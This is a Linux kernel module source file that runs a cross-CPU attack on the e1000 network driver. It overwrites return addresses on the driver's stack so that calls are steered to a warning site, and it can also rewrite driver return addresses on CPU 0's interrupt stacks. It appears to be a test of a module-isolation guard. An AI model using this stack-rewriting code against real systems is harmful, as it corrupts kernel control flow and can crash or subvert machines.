// SPDX-License-Identifier: Apache-2.0 OR GPL-2.0
/*
 * An attack: a second CPU rewrites return addresses of the running network driver.
 *
 * A thread on CPU 0 asks the stock e1000 for its statistics, again and again. The driver's entry calls e1000_update_stats, which takes a lock, and reads some sixty
 * registers of the card: time enough. A thread on CPU 1 watches the first one's stack. While the driver is inside, with no call out of it unfinished, it
 * writes over the return address of that inner call. The new one lies behind another call of the same function, where a warning stands
 * (ud2) that the driver never comes to by itself; so the frame has the same size, and a check of the stack at the next border finds nothing wrong. A driver
 * that is steered warns, and leaves its first number out.
 *
 *	device		the network device
 *	entry, inner	where e1000_get_ethtool_stats and e1000_update_stats are
 *	gates		where its gates are (.text.guard): the re-entry gate's address on the stack says that a call has left the module, or had
 *	rounds		how often to ask; it ends at the first time that nothing is answered, and when the driver has been steered often enough
 *	blind		instead, asks for the link, which takes no lock (entry and inner are e1000_get_link and e1000_has_link), writes as soon as the return address is
 *			there, and goes on until nothing was answered often enough: is it sooner than the first instruction that looks?
 *	results		reading it runs the attack: "rounds steered unanswered writes"
 *	stack		instead, with the per-CPU address of hardirq_stack_ptr: rewrites every return address into [text, text + size), to another such, on the two
 *			stacks that CPU 0 receives packets on, its interrupt stack and that of ksoftirqd/0, whatever goes on there, for rounds milliseconds: "writes"
 */
#include <linux/completion.h>
#include <linux/cpumask.h>
#include <linux/delay.h>
#include <linux/ethtool.h>
#include <linux/jiffies.h>
#include <linux/kthread.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/netdevice.h>
#include <linux/percpu.h>
#include <linux/sched/signal.h>
#include <linux/sched/task_stack.h>

static char *device = "eth0";
static unsigned long entry, inner, gates, stack, text, size, rounds = 1000;
static bool blind;
module_param(device, charp, 0644);
module_param(entry, ulong, 0644);
module_param(inner, ulong, 0644);
module_param(gates, ulong, 0644);
module_param(stack, ulong, 0644);
module_param(text, ulong, 0644);
module_param(size, ulong, 0644);
module_param(rounds, ulong, 0644);
module_param(blind, bool, 0644);

#define NUMBERS 64
#define UNTOUCHED 0x5a5a5a5a5a5a5a5aull
#define FUNCTION 512 /* bytes of `entry` to look at */
#define ENOUGH 10    /* times that the driver is steered, or blindly hit */
#define INNER 2048   /* bytes of `inner` */
#define NEAR 32	     /* words of the inner function's frame */
#define REENTRY 16   /* the second gate */
#define SHALLOW 6    /* words that the lock function may use */
#define DEEP 24      /* words that what comes later surely uses */
#define TOP 256	     /* words at the top of a stack, where the driver's frames lie */
#define PATIENCE 100 /* looks at the re-entry word: the call out that left it has surely come back */

static struct net_device *net;
static const unsigned char *lock;
static unsigned long right, wrong, steered, unanswered, asked, writes;
static DECLARE_COMPLETION(victim_done);
static struct task_struct *victim, *attacker;

/* The return address behind `call inner`, and that behind a call that a warning follows. */
static bool find_returns(void)
{
	const unsigned char *code = (const unsigned char *)entry;
	unsigned long at;

	right = wrong = 0;
	for (at = 0; entry && at + 7 < FUNCTION; at++) {
		if (code[at] != 0xe8)
			continue;
		if (entry + at + 5 + *(const int *)(code + at + 1) == inner)
			right = entry + at + 5;
		else if (code[at + 5] == 0x0f && code[at + 6] == 0x0b && !wrong)
			wrong = entry + at + 5;
	}
	if (blind) {
		wrong = right + 3; /* anything else */
		return right;
	}
	/* lea OFFSET(%rdi), %reg: the first is the lock, in the driver's data of the device */
	code = (const unsigned char *)inner;
	for (lock = NULL, at = 0; inner && at < FUNCTION && !lock; at++) {
		if ((code[at] & 0xfb) == 0x48 && code[at + 1] == 0x8d && (code[at + 2] & 0xc7) == 0x87)
			lock = (const unsigned char *)netdev_priv(net) + *(const int *)(code + at + 3);
	}
	return right && wrong && lock;
}

/* What earlier rounds left on the stack must not look like this one. */
static noinline void clear_stack(void)
{
	volatile unsigned long below[128];
	int i;

	for (i = 0; i < ARRAY_SIZE(below); i++)
		below[i] = 0;
}

static int ask(void *unused)
{
	static struct ethtool_stats request;
	static u64 numbers[NUMBERS];

	for (asked = 0; asked < rounds && (blind ? unanswered < ENOUGH : !unanswered && steered < ENOUGH); asked++) {
		int i;

		if (blind) {
			unanswered += net->ethtool_ops->get_link(net) == (u32)-1;
			cond_resched();
			continue;
		}
		for (i = 0; i < NUMBERS; i++)
			numbers[i] = UNTOUCHED;
		clear_stack();
		net->ethtool_ops->get_ethtool_stats(net, &request, numbers);
		if (numbers[1] == UNTOUCHED)
			unanswered++;
		else if (numbers[0] == UNTOUCHED)
			steered++;
		cond_resched();
	}
	complete(&victim_done);
	while (!kthread_should_stop())
		msleep(1);
	return 0;
}

/*
 * The first call out, for the lock, has come back: the lock is taken, and it left the re-entry gate below `slot`. The driver's later calls reach deeper down the stack, which has been cleared.
 */
static bool inside(unsigned long *slot, unsigned long *low)
{
	unsigned long *word, *deep, looks;

	for (word = slot - 1; word > slot - NEAR && word > low && READ_ONCE(*word) != gates + REENTRY; word--)
		if (READ_ONCE(*word) - inner < INNER) /* it has called a function of the driver, which calls out in turn */
			return false;
	for (deep = word - SHALLOW; deep > word - DEEP; deep--)
		if (READ_ONCE(*deep))
			return false;
	for (looks = 0; looks < PATIENCE; looks++)
		if (!READ_ONCE(*lock) || READ_ONCE(*word) != gates + REENTRY || READ_ONCE(*slot) != right)
			return false;
	return true;
}

/* Stays where the return address was found first. */
static int rewrite_blindly(void *unused)
{
	unsigned long *low = task_stack_page(victim), *high = low + THREAD_SIZE / sizeof(*low), *slot = high - 1;
	unsigned long turn;

	while (!kthread_should_stop() && READ_ONCE(*slot) != right)
		slot = slot == low ? high - 1 : slot - 1;
	while (!kthread_should_stop()) {
		for (turn = 0; turn < 0x10000; turn++)
			if (READ_ONCE(*slot) == right && cmpxchg(slot, right, wrong) == right) /* the word may be another function's by now */
				writes++;
		cond_resched();
	}
	return 0;
}

static int rewrite(void *unused)
{
	unsigned long *low = task_stack_page(victim), *high = low + THREAD_SIZE / sizeof(*low), *slot = high - 1;
	unsigned long turn = 0;

	while (!kthread_should_stop()) {
		if (READ_ONCE(*slot) != right) { /* it is always the same one, but which? */
			slot = slot == low ? high - 1 : slot - 1;
			if (!(++turn & 0xffff))
				cond_resched();
			continue;
		}
		if (inside(slot, low)) {
			WRITE_ONCE(*slot, wrong);
			writes++;
		}
	}
	return 0;
}

/* Every word below `high` that looks like a return address into the driver becomes another of them. */
static void rewrite_below(unsigned long *high)
{
	static unsigned long other;
	unsigned long *word;

	for (word = high - 1; word > high - TOP; word--) {
		unsigned long value = READ_ONCE(*word);

		if (value - text < 5 || value - text >= size || ((unsigned char *)value)[-5] != 0xe8)
			continue;
		/* The word may be the kernel's own return address by now, which led it into the driver by a wild jump. */
		if (other && other != value && cmpxchg(word, value, other) == value)
			writes++;
		other = value;
	}
}

static int rewrite_all(void *unused)
{
	unsigned long until = jiffies + msecs_to_jiffies(rounds);
	unsigned long *interrupts = (unsigned long *)(*per_cpu_ptr((unsigned long __percpu *)stack, 0) & ~7ul), *thread = NULL;
	struct task_struct *task;

	rcu_read_lock();
	for_each_process(task)
		if (!strcmp(task->comm, "ksoftirqd/0")) /* it never ends */
			thread = task_stack_page(task) + THREAD_SIZE;
	rcu_read_unlock();
	while (time_before(jiffies, until)) {
		rewrite_below(interrupts);
		if (thread)
			rewrite_below(thread);
		cond_resched();
	}
	complete(&victim_done);
	while (!kthread_should_stop())
		msleep(1);
	return 0;
}

static struct task_struct *start(int (*function)(void *), int cpu)
{
	struct task_struct *task = kthread_create(function, NULL, "rewrite/%d", cpu);

	if (!IS_ERR(task)) {
		kthread_bind(task, cpu);
		get_task_struct(task);
	}
	return task;
}

static void stop(struct task_struct *task)
{
	kthread_stop(task);
	put_task_struct(task);
}

static int results_get(char *buffer, const struct kernel_param *parameter)
{
	steered = unanswered = asked = writes = 0;
	reinit_completion(&victim_done);
	if (stack) {
		attacker = start(rewrite_all, 1);
		if (IS_ERR(attacker))
			return PTR_ERR(attacker);
		wake_up_process(attacker);
		wait_for_completion(&victim_done);
		stop(attacker);
		return scnprintf(buffer, PAGE_SIZE, "%lu\n", writes);
	}
	net = dev_get_by_name(&init_net, device);
	if (!net || !find_returns()) {
		dev_put(net);
		return -EINVAL;
	}
	victim = start(ask, 0);
	attacker = IS_ERR(victim) ? victim : start(blind ? rewrite_blindly : rewrite, 1);
	if (!IS_ERR(attacker)) {
		wake_up_process(attacker);
		wake_up_process(victim);
		wait_for_completion(&victim_done);
		stop(attacker);
	}
	if (!IS_ERR(victim))
		stop(victim);
	dev_put(net);
	return IS_ERR(attacker) ? PTR_ERR(attacker) : scnprintf(buffer, PAGE_SIZE, "%lu %lu %lu %lu\n", asked, steered, unanswered, writes);
}

static const struct kernel_param_ops results_ops = { .get = results_get };
module_param_cb(results, &results_ops, NULL, 0444);

MODULE_DESCRIPTION("Rewrites return addresses of the running e1000 driver");
MODULE_LICENSE("GPL");
